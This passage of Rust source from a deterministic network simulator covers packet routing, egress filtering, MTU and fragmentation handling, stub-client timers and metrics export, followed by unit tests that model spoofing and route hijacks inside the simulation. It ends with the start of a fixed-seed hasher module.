    pub fn clear_all_route_overrides(&mut self) {
        self.route_overrides.clear();
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// The name a node was registered with.
    pub fn node_name(&self, id: NodeId) -> &str {
        &self.nodes[id.0].name
    }

    /// Number of registered nodes.
    pub fn node_count(&self) -> usize {
        self.nodes.len()
    }

    /// Traffic counters of a node.
    pub fn stats(&self, id: NodeId) -> &TrafficStats {
        &self.nodes[id.0].stats
    }

    /// Engine-wide event and packet-verdict counters.
    pub fn counters(&self) -> EngineCounters {
        self.counters
    }

    /// Exports the engine's deterministic counters into a telemetry snapshot
    /// under `engine.*` (see the naming convention in the [`telemetry`]
    /// crate). Counters add across shards; queue/wheel occupancy export as
    /// max-merged gauges. The thread-local [`pool`] counters are deliberately
    /// **not** exported here: campaign workers share threads across shards,
    /// so raw pool counts depend on worker count and would break the
    /// byte-identical-merge contract.
    pub fn export_metrics(&self, m: &mut telemetry::MetricsSnapshot) {
        m.incr("engine.events.popped", self.counters.events_popped);
        m.gauge_max("engine.events.pending", self.events.len() as u64);
        for (level, occ) in self.events.level_occupancy().iter().enumerate() {
            m.gauge_max(&format!("engine.wheel.level{level}.occupancy"), u64::from(*occ));
        }
        m.incr("engine.packets.delivered", self.counters.delivered);
        m.incr("engine.packets.no_route", self.counters.no_route);
        m.incr("engine.packets.link_loss", self.counters.link_loss);
        m.incr("engine.packets.egress_filtered", self.counters.egress_filtered);
        m.incr("engine.packets.mtu_exceeded", self.counters.mtu_exceeded);
        m.incr("engine.trace.dropped", self.trace.dropped());
    }

    /// The packet trace.
    pub fn trace(&self) -> &Trace {
        &self.trace
    }

    /// Mutable access to the packet trace (e.g. to disable or clear it).
    pub fn trace_mut(&mut self) -> &mut Trace {
        &mut self.trace
    }

    /// Typed shared access to a node.
    pub fn node_ref<T: Node>(&self, id: NodeId) -> Option<&T> {
        // Go through `as_ref()` so the blanket `AsAny` impl resolves on the
        // concrete node type rather than on the `Box<dyn Node>` wrapper.
        self.nodes[id.0].node.as_ref().as_any().downcast_ref::<T>()
    }

    /// Typed exclusive access to a node.
    pub fn node_mut<T: Node>(&mut self, id: NodeId) -> Option<&mut T> {
        self.nodes[id.0].node.as_mut().as_any_mut().downcast_mut::<T>()
    }

    /// Which node currently receives traffic for `addr`, considering route
    /// overrides first and address ownership second. Stub clients are not
    /// visible here; use [`Simulator::stub_lookup`] for them.
    pub fn route_lookup(&self, addr: Ipv4Addr) -> Option<NodeId> {
        let mut best: Option<(u8, usize, NodeId)> = None;
        for (idx, (prefix, node)) in self.route_overrides.iter().enumerate() {
            if prefix.contains(addr) {
                let candidate = (prefix.len, idx, *node);
                if best.is_none_or(|b| (candidate.0, candidate.1) >= (b.0, b.1)) {
                    best = Some(candidate);
                }
            }
        }
        if let Some((_, _, node)) = best {
            return Some(node);
        }
        self.addr_map.get(&addr).copied()
    }

    /// Full routing including the stub arena: overrides, then node address
    /// ownership, then stub blocks.
    fn host_lookup(&self, addr: Ipv4Addr) -> Option<HostRef> {
        if let Some(node) = self.route_lookup(addr) {
            return Some(HostRef::Node(node));
        }
        self.stub_lookup(addr).map(HostRef::Stub)
    }

    /// Schedules a timer for a node, from outside the node itself.
    pub fn schedule_timer(&mut self, node: NodeId, delay: Duration, token: u64) {
        let time = self.now + delay;
        self.push_event(time, EventKind::Timer { node, token });
    }

    /// Schedules a typed timer for a stub client, from outside the handler.
    pub fn schedule_stub_timer(&mut self, stub: StubId, delay: Duration, timer: StubTimer) {
        let time = self.now + delay;
        self.push_event(time, EventKind::StubTimer { stub, timer });
    }

    /// Injects a packet as if `from` had sent it right now.
    pub fn inject(&mut self, from: NodeId, pkt: Ipv4Packet) {
        self.dispatch(from, pkt);
    }

    fn push_event(&mut self, time: SimTime, kind: EventKind) {
        let seq = self.seq;
        self.seq += 1;
        self.events.push(time, seq, kind);
    }

    /// The trace label for a packet origin. Only called when tracing is
    /// enabled, so the stub `String` allocation never taxes big runs.
    fn origin_label(nodes: &[NodeSlot], blocks: &[StubBlock], from: Origin) -> String {
        match from {
            Origin::Node(id) => nodes[id.0].name.clone(),
            Origin::Stub(id) => Self::stub_label(blocks, id),
            Origin::Router => "router".to_string(),
        }
    }

    fn stub_label(blocks: &[StubBlock], id: StubId) -> String {
        for b in blocks {
            if id.0 >= b.first && id.0 - b.first < b.count {
                return format!("{}{}", b.name, id.0 - b.first);
            }
        }
        format!("stub{}", id.0)
    }

    /// Routes and schedules one packet sent by a full node.
    fn dispatch(&mut self, from: NodeId, pkt: Ipv4Packet) {
        self.dispatch_from(Origin::Node(from), pkt);
    }

    /// Routes and schedules one packet from any origin.
    fn dispatch_from(&mut self, from: Origin, pkt: Ipv4Packet) {
        let wire_len = pkt.wire_len();
        let protocol = pkt.header.protocol;
        match from {
            Origin::Node(id) => {
                self.nodes[id.0].stats.record_sent(protocol, wire_len);
                // Egress filtering of spoofed sources (BCP 38).
                if self.nodes[id.0].egress_filtering && !self.nodes[id.0].addrs.contains(&pkt.header.src) {
                    self.nodes[id.0].stats.spoofed_filtered += 1;
                    self.counters.egress_filtered += 1;
                    if self.trace.enabled {
                        let from_name = self.nodes[id.0].name.clone();
                        self.trace.record_packet(self.now, &from_name, "-", &pkt, TraceVerdict::EgressFiltered);
                    }
                    pool::give(pkt.payload);
                    return;
                }
            }
            Origin::Stub(id) => {
                let b = self.block_of_stub(id);
                self.stub_blocks[b].stats.record_sent(protocol, wire_len);
                self.stubs[id.0 as usize].sent += 1;
            }
            Origin::Router => {}
        }

        // Routing (route overrides model hijacked prefixes).
        let Some(to) = self.host_lookup(pkt.header.dst) else {
            self.count_transit_drop(from, TraceVerdict::NoRoute);
            if self.trace.enabled {
                let from_name = Self::origin_label(&self.nodes, &self.stub_blocks, from);
                self.trace.record_packet(self.now, &from_name, "-", &pkt, TraceVerdict::NoRoute);
            }
            pool::give(pkt.payload);
            return;
        };
        let link = self.link_between(from, to);

        // Random loss.
        if link.loss > 0.0 && self.rng.gen::<f64>() < link.loss {
            self.count_transit_drop(from, TraceVerdict::LinkLoss);
            if self.trace.enabled {
                let from_name = Self::origin_label(&self.nodes, &self.stub_blocks, from);
                let to_name = self.host_label(to);
                self.trace.record_packet(self.now, &from_name, &to_name, &pkt, TraceVerdict::LinkLoss);
            }
            pool::give(pkt.payload);
            return;
        }

        // MTU handling by the "router" on the link.
        if pkt.wire_len() > usize::from(link.mtu) {
            if pkt.header.dont_fragment || !link.fragment_in_transit {
                self.count_transit_drop(from, TraceVerdict::MtuExceeded);
                if self.trace.enabled {
                    let from_name = Self::origin_label(&self.nodes, &self.stub_blocks, from);
                    let to_name = self.host_label(to);
                    self.trace.record_packet(self.now, &from_name, &to_name, &pkt, TraceVerdict::MtuExceeded);
                }
                // Generate an ICMP fragmentation-needed back to the sender,
                // originated "by the network" (source = destination address of
                // the oversized packet, a common real-world pattern for
                // unnumbered router interfaces).
                let ptb = IcmpMessage::fragmentation_needed(&pkt, link.mtu).into_packet(
                    pkt.header.dst,
                    pkt.header.src,
                    self.rng.gen(),
                    64,
                );
                pool::give(pkt.payload);
                let time = self.now + link.latency;
                let back_to = match from {
                    Origin::Node(id) => HostRef::Node(id),
                    Origin::Stub(id) => HostRef::Stub(id),
                    Origin::Router => return,
                };
                self.push_event(time, EventKind::Deliver { to: back_to, from: Origin::Router, pkt: ptb });
                return;
            }
            // Fragment in transit.
            for frag in frag::fragment_packet(&pkt, link.mtu) {
                let time = self.now + link.latency;
                self.push_event(time, EventKind::Deliver { to, from, pkt: frag });
            }
            pool::give(pkt.payload);
            return;
        }

        let time = self.now + link.latency;
        self.push_event(time, EventKind::Deliver { to, from, pkt });
    }

    /// Attributes a transit drop to the sender's stats, broken down by the
    /// verdict that caused it, and bumps the engine-wide verdict counter.
    fn count_transit_drop(&mut self, from: Origin, verdict: TraceVerdict) {
        match verdict {
            TraceVerdict::NoRoute => self.counters.no_route += 1,
            TraceVerdict::LinkLoss => self.counters.link_loss += 1,
            TraceVerdict::MtuExceeded => self.counters.mtu_exceeded += 1,
            TraceVerdict::Delivered | TraceVerdict::EgressFiltered => {
                debug_assert!(false, "not a transit-drop verdict: {verdict}");
            }
        }
        let stats = match from {
            Origin::Node(id) => &mut self.nodes[id.0].stats,
            Origin::Stub(id) => {
                let b = self.block_of_stub(id);
                &mut self.stub_blocks[b].stats
            }
            Origin::Router => return,
        };
        stats.dropped_in_transit += 1;
        match verdict {
            TraceVerdict::NoRoute => stats.no_route += 1,
            TraceVerdict::LinkLoss => stats.link_loss += 1,
            TraceVerdict::MtuExceeded => stats.mtu_exceeded += 1,
            _ => {}
        }
    }

    /// Attributes a delivered packet to the sender's verdict breakdown.
    fn count_delivered(&mut self, from: Origin) {
        self.counters.delivered += 1;
        match from {
            Origin::Node(id) => self.nodes[id.0].stats.delivered += 1,
            Origin::Stub(id) => {
                let b = self.block_of_stub(id);
                self.stub_blocks[b].stats.delivered += 1;
            }
            Origin::Router => {}
        }
    }

    /// The link governing a flow. Node-to-node flows use the configured link
    /// table; any flow touching a stub client uses the stub link.
    fn link_between(&self, from: Origin, to: HostRef) -> Link {
        match (from, to) {
            (Origin::Node(a), HostRef::Node(b)) => *self.links.get(&(a, b)).unwrap_or(&self.default_link),
            (Origin::Router, HostRef::Node(_)) => self.default_link,
            _ => self.stub_link,
        }
    }

    fn host_label(&self, to: HostRef) -> String {
        match to {
            HostRef::Node(id) => self.nodes[id.0].name.clone(),
            HostRef::Stub(id) => Self::stub_label(&self.stub_blocks, id),
        }
    }

    fn start_nodes(&mut self) {
        if self.started {
            return;
        }
        self.started = true;
        for idx in 0..self.nodes.len() {
            let id = NodeId(idx);
            self.with_node_ctx(id, |node, ctx| node.on_start(ctx));
        }
        if self.stub_handler.is_some() {
            for idx in 0..self.stubs.len() {
                self.with_stub_ctx(StubId(idx as u32), |handler, ctx| handler.on_start(ctx));
            }
        }
    }

    /// Runs a node callback with a freshly built [`Ctx`], then dispatches the
    /// side effects it produced.
    fn with_node_ctx(&mut self, id: NodeId, f: impl FnOnce(&mut dyn Node, &mut Ctx<'_>)) {
        let (outgoing, timers) = {
            let Simulator { nodes, rng, now, .. } = self;
            let slot = &mut nodes[id.0];
            let mut ctx =
                Ctx { now: *now, self_id: id, addrs: &slot.addrs, rng, outgoing: Vec::new(), timers: Vec::new() };
            f(slot.node.as_mut(), &mut ctx);
            (ctx.outgoing, ctx.timers)
        };
        for pkt in outgoing {
            self.dispatch(id, pkt);
        }
        for (delay, token) in timers {
            let time = self.now + delay;
            self.push_event(time, EventKind::Timer { node: id, token });
        }
    }

    /// Runs a stub-handler callback with a freshly built [`StubCtx`], then
    /// dispatches the side effects. The outgoing/timer scratch vectors are
    /// reused across calls, so a quiescent farm schedules with zero
    /// steady-state allocation.
    fn with_stub_ctx(&mut self, id: StubId, f: impl FnOnce(&mut dyn StubHandler, &mut StubCtx<'_>)) {
        let mut outgoing = std::mem::take(&mut self.stub_out_scratch);
        let mut timers = std::mem::take(&mut self.stub_timer_scratch);
        {
            let Simulator { stub_handler, stubs, rng, now, .. } = self;
            let handler = stub_handler.as_mut().expect("stub block registered without a StubHandler");
            let mut ctx = StubCtx {
                now: *now,
                id,
                state: &mut stubs[id.0 as usize],
                rng,
                outgoing: &mut outgoing,
                timers: &mut timers,
            };
            f(handler.as_mut(), &mut ctx);
        }
        for pkt in outgoing.drain(..) {
            self.dispatch_from(Origin::Stub(id), pkt);
        }
        for (delay, timer) in timers.drain(..) {
            let time = self.now + delay;
            self.push_event(time, EventKind::StubTimer { stub: id, timer });
        }
        self.stub_out_scratch = outgoing;
        self.stub_timer_scratch = timers;
    }

    fn deliver(&mut self, to: HostRef, from: Origin, pkt: Ipv4Packet) {
        self.count_delivered(from);
        match to {
            HostRef::Node(id) => {
                self.nodes[id.0].stats.record_received(pkt.header.protocol, pkt.wire_len());
                if self.trace.enabled {
                    let from_name = Self::origin_label(&self.nodes, &self.stub_blocks, from);
                    let to_name = self.nodes[id.0].name.clone();
                    self.trace.record_packet(self.now, &from_name, &to_name, &pkt, TraceVerdict::Delivered);
                }
                self.with_node_ctx(id, |node, ctx| node.on_packet(ctx, pkt));
            }
            HostRef::Stub(id) => {
                let b = self.block_of_stub(id);
                self.stub_blocks[b].stats.record_received(pkt.header.protocol, pkt.wire_len());
                self.stubs[id.0 as usize].received += 1;
                if self.trace.enabled {
                    let from_name = Self::origin_label(&self.nodes, &self.stub_blocks, from);
                    let to_name = Self::stub_label(&self.stub_blocks, id);
                    self.trace.record_packet(self.now, &from_name, &to_name, &pkt, TraceVerdict::Delivered);
                }
                self.with_stub_ctx(id, |handler, ctx| handler.on_packet(ctx, &pkt));
                // Stub deliveries borrow the packet, so the engine still owns
                // the buffer here and can recycle it.
                pool::give(pkt.payload);
            }
        }
    }

    /// Processes a single event. Returns `false` when the event queue is empty.
    pub fn step(&mut self) -> bool {
        self.start_nodes();
        let Some((time, _seq, kind)) = self.events.pop() else {
            return false;
        };
        self.counters.events_popped += 1;
        self.now = time;
        match kind {
            EventKind::Deliver { to, from, pkt } => self.deliver(to, from, pkt),
            EventKind::Timer { node, token } => {
                self.with_node_ctx(node, |n, ctx| n.on_timer(ctx, token));
            }
            EventKind::StubTimer { stub, timer } => {
                self.with_stub_ctx(stub, |h, ctx| h.on_timer(ctx, timer));
            }
        }
        true
    }

    /// Runs until the event queue is exhausted.
    pub fn run(&mut self) {
        while self.step() {}
    }

    /// Runs until the event queue is exhausted or the clock passes `deadline`.
    pub fn run_until(&mut self, deadline: SimTime) {
        self.start_nodes();
        while let Some(t) = self.events.peek_time() {
            if t > deadline {
                break;
            }
            self.step();
        }
        if self.now < deadline {
            self.now = deadline;
        }
    }

    /// Runs for `d` of simulated time from the current clock.
    pub fn run_for(&mut self, d: Duration) {
        let deadline = self.now + d;
        self.run_until(deadline);
    }

    /// Number of events still queued.
    pub fn pending_events(&self) -> usize {
        self.events.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::udp::UdpDatagram;

    const A: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const B: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);
    const C: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 3);

    fn udp(src: Ipv4Addr, dst: Ipv4Addr, len: usize) -> Ipv4Packet {
        UdpDatagram::new(src, dst, 1111, 2222, vec![0u8; len]).into_packet(1, 64)
    }

    #[test]
    fn delivers_between_nodes() {
        let mut sim = Simulator::new(1);
        let a = sim.add_node("a", vec![A], EchoNode::default());
        let b = sim.add_node("b", vec![B], EchoNode::default());
        sim.connect(a, b, Link::with_latency(Duration::from_millis(7)));
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(b).udp_received, 1);
        assert_eq!(sim.stats(a).udp_sent, 1);
        assert_eq!(sim.now(), SimTime::ZERO + Duration::from_millis(7));
        assert_eq!(sim.node_ref::<EchoNode>(b).unwrap().udp_seen, 1);
    }

    #[test]
    fn echo_node_answers_ping() {
        let mut sim = Simulator::new(2);
        let a = sim.add_node("a", vec![A], SinkNode::default());
        let b = sim.add_node("b", vec![B], EchoNode::default());
        sim.connect(a, b, Link::default());
        let ping = IcmpMessage::EchoRequest { id: 1, seq: 1, payload: vec![] }.into_packet(A, B, 5, 64);
        sim.inject(a, ping);
        sim.run();
        assert_eq!(sim.node_ref::<EchoNode>(b).unwrap().pings_answered, 1);
        assert_eq!(sim.node_ref::<SinkNode>(a).unwrap().received, 1, "echo reply came back");
        assert_eq!(sim.stats(a).icmp_received, 1);
    }

    #[test]
    fn no_route_packets_are_dropped() {
        let mut sim = Simulator::new(3);
        let a = sim.add_node("a", vec![A], EchoNode::default());
        sim.inject(a, udp(A, "99.99.99.99".parse().unwrap(), 10));
        sim.run();
        assert_eq!(sim.stats(a).dropped_in_transit, 1);
        assert_eq!(sim.stats(a).no_route, 1);
        assert_eq!(sim.counters().no_route, 1);
        assert_eq!(sim.trace().matching("UDP").len(), 1);
    }

    #[test]
    fn counters_track_verdicts_and_export() {
        let mut sim = Simulator::new(30);
        let a = sim.add_node("a", vec![A], SinkNode::default());
        let b = sim.add_node("b", vec![B], SinkNode::default());
        sim.connect(a, b, Link::default().mtu(576));
        sim.set_egress_filtering(a, true);
        sim.inject(a, udp(A, B, 10)); // delivered
        sim.inject(a, udp(C, B, 10)); // egress-filtered (spoofed)
        sim.inject(a, udp(A, "99.99.99.99".parse().unwrap(), 10)); // no-route
        let mut big = udp(A, B, 1000);
        big.header.dont_fragment = true;
        sim.inject(a, big); // mtu-exceeded (+ ICMP PTB delivered back)
        sim.run();
        let c = sim.counters();
        assert_eq!(c.delivered, 2, "the UDP datagram and the PTB error");
        assert_eq!(c.egress_filtered, 1);
        assert_eq!(c.no_route, 1);
        assert_eq!(c.mtu_exceeded, 1);
        assert_eq!(c.link_loss, 0);
        assert!(c.events_popped >= 2);
        assert_eq!(sim.stats(a).delivered, 1, "PTB comes from the router, not node a");
        assert_eq!(sim.stats(a).mtu_exceeded, 1);

        let mut m = telemetry::MetricsSnapshot::new();
        sim.export_metrics(&mut m);
        assert_eq!(m.counter("engine.packets.delivered"), 2);
        assert_eq!(m.counter("engine.packets.egress_filtered"), 1);
        assert_eq!(m.counter("engine.packets.no_route"), 1);
        assert_eq!(m.counter("engine.packets.mtu_exceeded"), 1);
        assert_eq!(m.counter("engine.events.popped"), c.events_popped);
        assert_eq!(m.gauge("engine.events.pending"), 0);
        assert!(m.counter("engine.packets.link_loss") == 0);
        assert!(m.render().contains("engine.wheel.level0.occupancy"));
    }

    #[test]
    #[should_panic(expected = "duplicate address registration")]
    fn duplicate_address_registration_panics() {
        let mut sim = Simulator::new(3);
        sim.add_node("first-owner", vec![A], EchoNode::default());
        sim.add_node("second-owner", vec![A], EchoNode::default());
    }

    #[test]
    #[should_panic(expected = "stub block")]
    fn node_address_inside_stub_block_panics() {
        let mut sim = Simulator::new(3);
        sim.add_stub_block("farm", "100.64.0.0".parse().unwrap(), 16);
        sim.add_node("squatter", vec!["100.64.0.5".parse().unwrap()], EchoNode::default());
    }

    #[test]
    #[should_panic(expected = "overlaps existing stub block")]
    fn overlapping_stub_blocks_panic() {
        let mut sim = Simulator::new(3);
        sim.add_stub_block("farm-a", "100.64.0.0".parse().unwrap(), 16);
        sim.add_stub_block("farm-b", "100.64.0.8".parse().unwrap(), 16);
    }

    #[test]
    fn egress_filtering_drops_spoofed_sources() {
        let mut sim = Simulator::new(4);
        let a = sim.add_node("attacker", vec![A], EchoNode::default());
        let b = sim.add_node("victim", vec![B], EchoNode::default());
        sim.connect(a, b, Link::default());
        sim.set_egress_filtering(a, true);
        // Spoofed packet (source C not owned by attacker) is filtered...
        sim.inject(a, udp(C, B, 10));
        // ...but a non-spoofed one passes.
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(a).spoofed_filtered, 1);
        assert_eq!(sim.stats(b).udp_received, 1);
    }

    #[test]
    fn spoofing_allowed_without_egress_filtering() {
        let mut sim = Simulator::new(5);
        let a = sim.add_node("attacker", vec![A], EchoNode::default());
        let b = sim.add_node("victim", vec![B], EchoNode::default());
        sim.connect(a, b, Link::default());
        sim.inject(a, udp(C, B, 10));
        sim.run();
        assert_eq!(sim.stats(b).udp_received, 1);
        assert_eq!(sim.stats(a).spoofed_filtered, 0);
    }

    #[test]
    fn route_override_hijacks_traffic() {
        let mut sim = Simulator::new(6);
        let a = sim.add_node("client", vec![A], EchoNode::default());
        let b = sim.add_node("victim-ns", vec![B], EchoNode::default());
        let h = sim.add_node("hijacker", vec![C], EchoNode::default());
        sim.connect(a, b, Link::default());
        sim.connect(a, h, Link::default());
        // Sub-prefix hijack of the /32 covering B.
        sim.set_route_override(Prefix::host(B), h);
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(h).udp_received, 1, "traffic goes to the hijacker");
        assert_eq!(sim.stats(b).udp_received, 0);
        // Withdraw the hijack: traffic flows normally again.
        sim.clear_route_override(Prefix::host(B));
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(b).udp_received, 1);
    }

    #[test]
    fn more_specific_override_wins() {
        let mut sim = Simulator::new(7);
        let a = sim.add_node("a", vec![A], EchoNode::default());
        let b = sim.add_node("b", vec![B], EchoNode::default());
        let h1 = sim.add_node("h1", vec![Ipv4Addr::new(9, 0, 0, 1)], EchoNode::default());
        let h2 = sim.add_node("h2", vec![Ipv4Addr::new(9, 0, 0, 2)], EchoNode::default());
        let _ = b;
        sim.set_route_override("10.0.0.0/8".parse().unwrap(), h1);
        sim.set_route_override("10.0.0.0/24".parse().unwrap(), h2);
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(h2).udp_received, 1);
        assert_eq!(sim.stats(h1).udp_received, 0);
    }

    #[test]
    fn oversized_df_packet_triggers_icmp_ptb() {
        let mut sim = Simulator::new(8);
        let a = sim.add_node("a", vec![A], SinkNode::default());
        let b = sim.add_node("b", vec![B], SinkNode::default());
        sim.connect(a, b, Link::default().mtu(576));
        let mut pkt = udp(A, B, 1000);
        pkt.header.dont_fragment = true;
        sim.inject(a, pkt);
        sim.run();
        // The oversized packet never reaches b; a receives an ICMP PTB.
        assert_eq!(sim.stats(b).packets_received, 0);
        assert_eq!(sim.stats(a).icmp_received, 1);
        assert_eq!(sim.stats(a).dropped_in_transit, 1);
    }

    #[test]
    fn oversized_packet_without_df_fragmented_in_transit() {
        let mut sim = Simulator::new(9);
        let a = sim.add_node("a", vec![A], SinkNode::default());
        let b = sim.add_node("b", vec![B], SinkNode::default());
        sim.connect(a, b, Link::default().mtu(576));
        sim.inject(a, udp(A, B, 1400));
        sim.run();
        assert!(sim.stats(b).packets_received >= 3, "fragments delivered separately");
    }

    #[test]
    fn lossy_link_drops_packets_deterministically() {
        let mut sim = Simulator::new(10);
        let a = sim.add_node("a", vec![A], SinkNode::default());
        let b = sim.add_node("b", vec![B], SinkNode::default());
        sim.connect(a, b, Link::default().loss(1.0));
        sim.inject(a, udp(A, B, 10));
        sim.run();
        assert_eq!(sim.stats(b).packets_received, 0);
        assert_eq!(sim.stats(a).dropped_in_transit, 1);
    }

    #[test]
    fn timers_fire_in_order() {
        #[derive(Default)]
        struct TimerNode {
            fired: Vec<u64>,
        }
        impl Node for TimerNode {
            fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _pkt: Ipv4Packet) {}
            fn on_timer(&mut self, _ctx: &mut Ctx<'_>, token: u64) {
                self.fired.push(token);
            }
        }
        let mut sim = Simulator::new(11);
        let n = sim.add_node("t", vec![A], TimerNode::default());
        sim.schedule_timer(n, Duration::from_millis(20), 2);
        sim.schedule_timer(n, Duration::from_millis(10), 1);
        sim.schedule_timer(n, Duration::from_millis(30), 3);
        sim.run();
        assert_eq!(sim.node_ref::<TimerNode>(n).unwrap().fired, vec![1, 2, 3]);
    }

    #[test]
    fn on_start_runs_before_first_delivery() {
        struct Starter {
            started_at: Option<SimTime>,
        }
        impl Node for Starter {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                self.started_at = Some(ctx.now());
                ctx.set_timer(Duration::from_millis(1), 99);
            }
            fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _pkt: Ipv4Packet) {}
        }
        let mut sim = Simulator::new(12);
        let n = sim.add_node("s", vec![A], Starter { started_at: None });
        sim.run();
        assert_eq!(sim.node_ref::<Starter>(n).unwrap().started_at, Some(SimTime::ZERO));
    }

    #[test]
    fn run_until_stops_at_deadline() {
        let mut sim = Simulator::new(13);
        let a = sim.add_node("a", vec![A], EchoNode::default());
        let b = sim.add_node("b", vec![B], EchoNode::default());
        sim.connect(a, b, Link::with_latency(Duration::from_secs(10)));
        sim.inject(a, udp(A, B, 10));
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.stats(b).udp_received, 0);
        assert_eq!(sim.pending_events(), 1);
        sim.run();
        assert_eq!(sim.stats(b).udp_received, 1);
    }

    #[test]
    fn determinism_same_seed_same_trace() {
        fn run_once(seed: u64) -> Vec<String> {
            let mut sim = Simulator::new(seed);
            let a = sim.add_node("a", vec![A], EchoNode::default());
            let b = sim.add_node("b", vec![B], EchoNode::default());
            sim.connect(a, b, Link::default().loss(0.5));
            for i in 0..20 {
                sim.inject(a, udp(A, B, 10 + i));
            }
            sim.run();
            sim.trace().entries().iter().map(|e| e.to_string()).collect()
        }
        assert_eq!(run_once(42), run_once(42));
        assert_ne!(run_once(42), run_once(43));
    }

    /// A handler that makes every stub ping-pong one UDP datagram with a
    /// sink node: on start each stub arms a timer, on fire it sends a query,
    /// and deliveries are counted in the arena entry.
    struct PingHandler {
        target: Ipv4Addr,
    }
    impl StubHandler for PingHandler {
        fn on_start(&mut self, ctx: &mut StubCtx<'_>) {
            let jitter = ctx.id().0 as u64;
            ctx.set_timer(Duration::from_micros(10 + jitter), StubTimer { kind: 1, data: ctx.id().0 });
        }
        fn on_timer(&mut self, ctx: &mut StubCtx<'_>, timer: StubTimer) {
            assert_eq!(timer.kind, 1);
            assert_eq!(timer.data, ctx.id().0, "timer token must come back to its owner");
            let pkt = UdpDatagram::new(ctx.addr(), self.target, 5353, 53, vec![0xAB; 8]).into_packet(1, 64);
            ctx.send(pkt);
        }
        fn on_packet(&mut self, ctx: &mut StubCtx<'_>, pkt: &Ipv4Packet) {
            assert_eq!(pkt.header.dst, ctx.addr());
            ctx.state_mut().data += 1;
        }
    }

    /// Echoes every UDP datagram back to its sender.
    #[derive(Default)]
    struct UdpEchoServer;
    impl Node for UdpEchoServer {
        fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet) {
            if pkt.header.protocol == Protocol::Udp {
                if let Ok(d) = UdpDatagram::from_packet(&pkt) {
                    let reply = UdpDatagram::new(d.dst, d.src, d.dst_port, d.src_port, d.payload);
                    let ipid = ctx.rng().gen();
                    ctx.send(reply.into_packet(ipid, 64));
                }
            }
        }
    }

    #[test]
    fn stub_block_round_trips_traffic() {
        let mut sim = Simulator::new(77);
        let server_addr: Ipv4Addr = "10.9.9.9".parse().unwrap();
        let server = sim.add_node("server", vec![server_addr], UdpEchoServer);
        let first = sim.add_stub_block("client", "100.64.0.0".parse().unwrap(), 100);
        sim.set_stub_handler(PingHandler { target: server_addr });
        sim.run();
        assert_eq!(sim.stats(server).udp_received, 100);
        assert_eq!(sim.stats(server).udp_sent, 100);
        // Every stub sent one query and got one reply back.
        for i in 0..100 {
            let st = sim.stub_state(StubId(first.0 + i));
            assert_eq!((st.sent, st.received, st.data), (1, 1, 1), "stub {i}");
        }
        assert_eq!(sim.stub_block_stats(first).udp_sent, 100);
        assert_eq!(sim.stub_block_stats(first).udp_received, 100);
    }

    #[test]
    fn stub_lookup_is_arithmetic_on_the_block() {
        let mut sim = Simulator::new(1);
        let first = sim.add_stub_block("farm", "100.64.1.0".parse().unwrap(), 512);
        let a = sim.add_stub_block("other", "100.70.0.0".parse().unwrap(), 4);
        assert_eq!(sim.stub_lookup("100.64.1.0".parse().unwrap()), Some(first));
        assert_eq!(sim.stub_lookup("100.64.2.255".parse().unwrap()), Some(StubId(first.0 + 511)));
        assert_eq!(sim.stub_lookup("100.64.3.0".parse().unwrap()), None);
        assert_eq!(sim.stub_lookup("100.70.0.3".parse().unwrap()), Some(StubId(a.0 + 3)));
        assert_eq!(sim.stub_count(), 516);
    }

    #[test]
    fn stub_timers_never_alias_across_clients() {
        // Two stubs schedule timers with identical (kind, data): each fire
        // must reach its own stub. The PingHandler asserts ownership.
        struct SameToken;
        impl StubHandler for SameToken {
            fn on_start(&mut self, ctx: &mut StubCtx<'_>) {
                ctx.set_timer(Duration::from_millis(1), StubTimer { kind: 7, data: 42 });
            }
            fn on_timer(&mut self, ctx: &mut StubCtx<'_>, timer: StubTimer) {
                assert_eq!(timer, StubTimer { kind: 7, data: 42 });
                ctx.state_mut().data += 1;
            }
            fn on_packet(&mut self, _ctx: &mut StubCtx<'_>, _pkt: &Ipv4Packet) {}
        }
        let mut sim = Simulator::new(5);
        let first = sim.add_stub_block("c", "100.64.0.0".parse().unwrap(), 8);
        sim.set_stub_handler(SameToken);
        sim.run();
        for i in 0..8 {
            assert_eq!(sim.stub_state(StubId(first.0 + i)).data, 1, "stub {i} got exactly its own timer");
        }
    }
}
