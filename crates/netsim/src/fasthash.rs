//! A deterministic multiply-xor hasher for the simulator's hot lookups.
//!
//! The engine probes `addr_map` and `links` once per routed packet, and the
//! keys are tiny fixed-size values (an IPv4 address, a pair of node ids)
//! fully controlled by the simulation itself — the DoS resistance that
//! justifies `std`'s randomly-seeded SipHash buys nothing here and costs a
//! long dependency chain per probe. This is the Fx construction (rotate,
//! xor, multiply by a odd constant) with a fixed zero seed, so hash values
//! — and therefore any map iteration order — are identical across runs and
//! processes, which is one less way for nondeterminism to leak into a
//! seeded simulation.

use std::collections::HashMap;
use std::hash::{BuildHasherDefault, Hasher};

/// `HashMap` keyed by the deterministic [`FastHasher`].
pub type FastHashMap<K, V> = HashMap<K, V, BuildHasherDefault<FastHasher>>;

/// Multiplier from Firefox's Fx hash: an odd constant close to
/// 2^64 / golden ratio, so consecutive keys scatter across the table.
const SEED: u64 = 0x51_7c_c1_b7_27_22_0a_95;

/// The hasher state. `Default` starts at zero — fixed, never randomized.
#[derive(Debug, Clone, Copy, Default)]
pub struct FastHasher(u64);

impl FastHasher {
    #[inline]
    fn mix(&mut self, word: u64) {
        self.0 = (self.0.rotate_left(5) ^ word).wrapping_mul(SEED);
    }
}

impl Hasher for FastHasher {
    #[inline]
    fn finish(&self) -> u64 {
        self.0
    }

    #[inline]
    fn write(&mut self, bytes: &[u8]) {
        let mut chunks = bytes.chunks_exact(8);
